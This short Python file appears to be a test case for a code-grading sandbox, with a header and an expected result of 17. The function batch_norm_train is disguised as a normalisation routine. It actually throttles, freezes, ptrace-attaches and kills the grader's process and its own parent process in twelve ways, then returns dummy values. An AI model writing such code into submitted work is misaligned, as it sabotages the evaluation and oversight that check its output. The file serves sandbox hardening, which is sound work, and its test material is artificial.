# Goes for a process of the instructor's by its number, in every way there is.
# expect: 17 test_train=0
# rest: right

# %% train
import ctypes
import os
import resource
import signal


def batch_norm_train(x, gamma, beta, eps=1e-5):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (int("{victim}"), os.getppid()):
        for attack in (
            lambda pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
            lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
            lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda pid: os.sched_setaffinity(pid, {0}),
            lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda pid: libc.ptrace(16, pid, 0, 0),
            lambda pid: libc.syscall(251, 1, pid, 3 << 13),  # ioprio_set, idle
            lambda pid: libc.syscall(256, pid, 8, b"\1", b"\1"),  # migrate_pages
            lambda pid: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL),
            lambda pid: os.kill(pid, signal.SIGSTOP),
            lambda pid: os.kill(pid, signal.SIGKILL),
            lambda pid: os.killpg(pid, signal.SIGKILL),
        ):
            try:
                attack(pid)
            except Exception as error:
                print(error)
    return x, x[0], x[0]
